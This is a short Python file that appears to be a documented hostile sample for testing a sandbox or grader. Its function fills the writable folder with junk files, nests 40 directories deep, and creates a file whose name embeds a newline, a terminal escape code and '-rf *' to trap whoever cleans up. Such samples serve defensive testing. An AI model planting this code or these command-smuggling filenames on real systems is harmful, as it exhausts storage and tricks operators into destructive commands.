"""Fills the folder that it may write in: many files, deep folders, names that are hard to remove.

Aims at: the disk, and whoever removes what is left
Acts at: call
Outcome: status failed, code not-array
Stopped by: cleaning
"""

import os


def make_cross(size=7):
    for number in range(20):
        with open(f"file-{number}", "w") as file:
            file.write("x" * 1000)
    for number in range(40):
        os.mkdir("d")
        os.chdir("d")
    open("\n\x1b[31m-rf *", "w").close()
    return 0
